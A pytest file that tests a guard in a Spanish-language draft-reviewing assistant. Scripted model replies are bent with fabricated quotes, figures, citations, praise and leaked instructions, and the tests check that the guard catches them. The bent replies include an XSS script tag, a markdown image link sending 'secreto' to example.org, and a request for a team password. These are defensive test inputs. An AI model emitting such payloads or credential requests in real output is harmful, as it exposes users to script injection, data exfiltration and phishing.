"""A model that lies, over real HTTP: nothing false reaches the person, and the rulebook's finding stands, marked.

Each lie is a way of bending a good reply. All prompts of a turn are bent in the same way, in the repair too.
"""

import json
from collections.abc import Callable
from typing import Any

import pytest

from assistant.domain.finding import Examination, Outcome, Status
from assistant.examiners.model.guard.figures import unfounded_in
from assistant.examiners.model.guard.quotes import find_quote
from assistant.reading.language import identify
from assistant.wiring.house import House
from tests.examiners.model.provider import Provider
from tests.examiners.model.scripted import good, schema_of, system_of
from tests.examiners.model.test_examiner import read
from tests.examiners.model.turn import Turn

Item = dict[str, Any]
Bend = Callable[[Item, dict[str, Any]], None]
_LISTS = {"ExaminedGroup": "findings", "Proposed": "candidates"}


def bent(bend: Bend, schemas: tuple[str, ...]) -> Callable[[dict[str, Any]], str]:
    """A good model whose items are bent in replies to these prompts."""

    def answer(request: dict[str, Any]) -> str:
        reply = json.loads(good(request))
        schema = schema_of(request)
        if schema in schemas:
            for item in reply[_LISTS[schema]] if schema in _LISTS else [reply]:
                bend(item, request)
        return json.dumps(reply, ensure_ascii=False)

    return answer


def put(**fields: Any) -> Bend:
    return lambda item, _: item.update(fields)


def leak(item: Item, request: dict[str, Any]) -> None:
    item["why"] = " ".join(system_of(request).split()[:40])


# ---------------------------------------------------------------- findings

FALSE_FINDINGS: dict[str, Bend] = {
    "an invented quote": put(status="partly", quotes=["La cooperativa firmó un contrato con tres compradores."]),
    "a quote with one word changed": put(status="partly", quotes=["La Junta de Usuarios se reúne cada semana"]),
    "a quote of three dots": put(status="partly", quotes=["…"]),
    "a figure from nowhere": put(why="El borrador prevé 4.321 empleos y no dice dónde."),
    "a figure in words": put(why="El borrador prevé cuatrocientas empresas y no dice dónde."),
    "a name from nowhere": put(why="El borrador cuenta con la Fundación Altiplano Verde y no dice para qué."),
    "a citation from nowhere": put(why="El borrador no cumple con R9.4, que lo exige para todos."),
    "another language": put(why="The draft names who takes part, but it does not say what they have."),
    "a third language": put(why="Le projet ne dit pas qui paiera les services après la fin du financement."),
    "a question": put(why="El borrador no lo dice. ¿Quién lo paga?"),
    "a link": put(why="El borrador no lo dice; véase https://example.org/guia para más."),
    "an image": put(why="El borrador no lo dice ![x](http://example.org/x.png)."),
    "markup": put(why="El borrador <b>no</b> lo dice <script>alert(1)</script>."),
    "praise": put(why="El borrador es excelente y responde a todo lo que se pide."),
    "its instructions": leak,
    "nothing": put(why=""),
    "without end": put(why="El borrador no lo dice. " * 60),
    "all answered": put(status="addressed", quotes=[], disagreement="Todo queda claro en el borrador, sin duda."),
    "all answered by a title": put(
        status="addressed",
        quotes=["Riego en Huayllapampa."],
        disagreement="El título ya lo dice todo, sin duda alguna.",
    ),
    "all not applicable": put(status="not_applicable", quotes=[], why="No aplica.", disagreement=""),
    "all contradicted": put(status="contradicts", quotes=[], disagreement="El borrador va contra la recomendación."),
    "another status without a reason": put(status="contradicts", quotes=["hoy lo usan 60"], disagreement=""),
    "a criterion that does not exist": put(criterion="honesty"),
    **{
        f"a quote of its own making between {opening} and {closing}": put(
            why=f"El borrador dice {opening}se contratará a todos los vecinos{closing}, y nada más."
        )
        for opening, closing in ("«»", "“”", '""', "„“", "‘’", "''", "‹›", "‚‘")
    },
    "an acronym from nowhere at the beginning": put(why="USAID pagará el mantenimiento, y no se dice desde cuándo."),
    "thousands from nowhere": put(why="El borrador habla de miles de empleos y no dice dónde."),
    "a figure glued to its currency": put(why="El borrador prevé usd5000 para el canal y no dice de quién."),
    "an address in words": put(why="El borrador no lo dice; escriban a ayuda arroba ejemplo punto org para saberlo."),
    "a request for a password": put(why="El borrador no lo dice; envíen la contraseña del equipo para saberlo."),
}


@pytest.mark.parametrize("lie", FALSE_FINDINGS)
def test_a_lying_finding_is_not_shown_and_the_rulebooks_stands(house: House, lie: str):
    draft = read(house, "es")
    held = house.examiner.examine(draft)
    with Provider("good", answer=bent(FALSE_FINDINGS[lie], ("ExaminedGroup",))) as provider:
        turn = Turn(house, provider)
        examination = turn.examiner.examine(draft)
    nothing_false_in(examination, draft, held)
    by_rulebook = [finding for finding in examination.findings if finding.by == "rulebook"]
    assert by_rulebook
    for finding in by_rulebook:
        assert finding.replaced
        assert not any(word in finding.replaced for word in WORDS_OF_LIES)
        assert (finding.status, finding.evidence, finding.why) == (
            held.finding(finding.slug).status, held.finding(finding.slug).evidence, held.finding(finding.slug).why,
        )  # fmt: skip
    assert turn.account.use("es").replaced >= len(by_rulebook)


WORDS_OF_LIES = ("cooperativa", "cada semana", "4.321", "cuatrocientas", "Altiplano", "R9", "vecinos", "USAID", "miles",
                 "usd5000", "excelente", "Huayllapampa")  # fmt: skip


def nothing_false_in(examination: Examination, draft, held: Examination) -> None:
    """Every text by a model rests on the draft; no status is better than what a quote bears."""
    rests_on = [draft.text, *(figure.text for figure in examination.figures)]
    for finding in examination.findings:
        texts = [finding.why] if finding.by == "model" else []
        challenge = finding.challenge
        if challenge is not None and challenge.by == "model":
            texts += [challenge.reason, challenge.question, challenge.settles]
            assert challenge.question.count("?") == 1
            assert set(challenge.claims) <= set(finding.claims)
            assert challenge.quote is None or find_quote(challenge.quote.quote, draft.text)
        for evidence in finding.evidence:
            assert draft.text[evidence.start : evidence.end] == evidence.quote
        for text in texts:
            assert identify(text) == draft.language
            assert not unfounded_in(text, rests_on, [figure.value for figure in examination.figures], draft.language)
            for sign in ("http", "](", "<", "excelente", "Altiplano", "R9", "Examinas borradores"):
                assert sign not in text
        if finding.status is not held.finding(finding.slug).status and finding.status is not Status.MISSING:
            assert finding.evidence


# ---------------------------------------------------------------- challenges

FALSE_CHALLENGES: dict[str, Bend] = {
    "an invented quote": put(quote="Las familias ya pagan la mitad del equipo."),
    "a citation that was not given": put(
        claim="R6.9", reason="R6 dice que los proveedores locales son siempre mejores."
    ),
    "a citation that it does not name": put(reason="Con lo que dice el borrador aún no se ve quién se hace cargo."),
    "another recommendation in the reason": put(reason="Con lo que dice el borrador no basta: R12 lo exige a todos."),
    "a recommendation turned into a ban": put(
        reason="Con esto no basta: R4 y R1 prohíben seguir sin un acuerdo firmado."
    ),
    "two questions": put(question="¿Quién paga el mantenimiento? ¿Y desde qué año?"),
    "no question": put(question="Digan quién paga el mantenimiento."),
    "a question in the reason": put(reason="¿Quién lo paga? R1 pide que se mire."),
    "another language": put(question="Who pays for the upkeep of the canals after the project?"),
    "a figure from nowhere": put(question="¿Cómo llegarán a 12.500 familias con Agroriegos?"),
    "a name from nowhere": put(question="¿Qué dice de esto la señora Quispe de la Cooperativa Sol Naciente?"),
    "a link": put(settles="Un nombre; véase www.example.org/plantilla."),
    "an image": put(reason="R1 pide mirarlo ![a](http://example.org/?d=secreto) antes."),
    "a very long question": put(question="¿Quién " + "y quién más " * 40 + "lo paga?"),
    "praise": put(reason="El borrador es magnífico y R1 lo pide así."),
    "nothing": put(question="", reason="", settles=""),
}


@pytest.mark.parametrize("lie", FALSE_CHALLENGES)
def test_a_lying_challenge_is_not_asked_and_the_rulebooks_is(house: House, lie: str):
    draft = read(house, "es")
    held = house.examiner.examine(draft)
    with Provider("good", answer=bent(FALSE_CHALLENGES[lie], ("Proposed",))) as provider:
        turn = Turn(house, provider)
        examination = turn.examiner.examine(draft)
    nothing_false_in(examination, draft, held)
    for finding in examination.findings:
        assert finding.by == "model"
        if finding.challenge is not None:
            before = held.finding(finding.slug).challenge
            assert finding.challenge.by == "rulebook"
            assert before is not None
            assert finding.challenge == before
    assert turn.account.use("es").replaced == len(examination.agenda)


def test_of_three_candidates_a_good_one_is_asked_without_a_repair(house: House):
    """One of each three lies: it is not among those that the second call chooses from."""
    draft = read(house, "es")
    count = {"n": 0}

    def every_third(item: Item, _: dict[str, Any]) -> None:
        count["n"] += 1
        if count["n"] % 3 == 0:
            item["question"] = "¿Cómo llegarán a 12.500 familias?"

    with Provider("good", answer=bent(every_third, ("Proposed",))) as provider:
        turn = Turn(house, provider)
        examination = turn.examiner.examine(draft)
    assert {finding.challenge.by for finding in examination.findings if finding.challenge} == {"model"}
    assert not any("12.500" in finding.challenge.question for finding in examination.findings if finding.challenge)
    assert turn.account.use("es").repaired == 0


@pytest.mark.parametrize("number", [0, 4, 99, -1])
def test_a_choice_that_is_none_leaves_the_first_candidate(house: House, number: int):
    draft = read(house, "es")

    def answer(request: dict[str, Any]) -> str:
        reply = json.loads(good(request))
        for choice in reply.get("choices", []):
            choice["number"] = number
        return json.dumps(reply, ensure_ascii=False)

    with Provider("good", answer=answer) as provider:
        examination = Turn(house, provider).examiner.examine(draft)
    asked = [finding.challenge.question for finding in examination.findings if finding.challenge]
    assert asked
    assert all(question.startswith("¿Quién daría el primer paso por su cuenta en ") for question in asked)


def test_the_same_question_is_not_asked_of_two_criteria(house: House):
    draft = read(house, "es")
    same = put(question="¿Quién daría el primer paso, y con qué dinero?")
    with Provider("good", answer=bent(same, ("Proposed",))) as provider:
        examination = Turn(house, provider).examiner.examine(draft)
    asked = [finding.challenge.question for finding in examination.findings if finding.challenge]
    assert len(asked) == len(set(asked)) > 1
    assert "¿Quién daría el primer paso, y con qué dinero?" in asked


# ---------------------------------------------------------------- verdicts

VAGUE = "Sí, eso está contemplado en el proyecto y lo vamos a articular."
FALSE_VERDICTS: dict[str, tuple[str, Bend]] = {
    "assent is resolved": (VAGUE, put(outcome="resolved", arrived=VAGUE.rstrip("."), wanted="")),
    "words that were not said": (VAGUE, put(outcome="partly", arrived="la alcaldía pagará 12.000 soles al año")),
    "a waiver without a reason": ("No aplica.", put(outcome="waived", reason="No aplica", arrived="", wanted="")),
    "a reason that was not given": (VAGUE, put(outcome="waived", reason="la ley no lo permite aquí", wanted="")),
    "a follow-up with a false figure": (VAGUE, put(
        outcome="open", arrived="", next_question="¿De dónde saldrán los 99.000 soles?", next_reason="",
    )),
    "two questions in the follow-up": (VAGUE, put(
        outcome="open", arrived="", next_question="¿Quién paga? ¿Desde cuándo?", next_reason="",
    )),
}  # fmt: skip


@pytest.mark.parametrize("lie", FALSE_VERDICTS)
def test_a_lying_verdict_settles_nothing(house: House, lie: str):
    draft = read(house, "es")
    answer, bend = FALSE_VERDICTS[lie]
    finding = house.examiner.examine(draft).finding("public-sector")
    assert finding.challenge is not None
    held = house.examiner.weigh(finding.challenge, finding, (answer,), draft)
    with Provider("good", answer=bent(bend, ("Weighed",))) as provider:
        turn = Turn(house, provider)
        verdict = turn.examiner.weigh(finding.challenge, finding, (answer,), draft)
        asking = turn.examiner.follow_up(finding.challenge, verdict, draft, 1)
    assert verdict.outcome not in (Outcome.RESOLVED, Outcome.WAIVED) or verdict == held
    assert verdict.arrived in answer
    assert verdict == held or verdict.by == "model"
    for text in (asking.question, asking.reason, verdict.wanted):
        assert "99.000" not in text
        assert "12.000" not in text
    assert asking.question.count("?") == 1
    assert turn.account.use("es").replaced >= 1
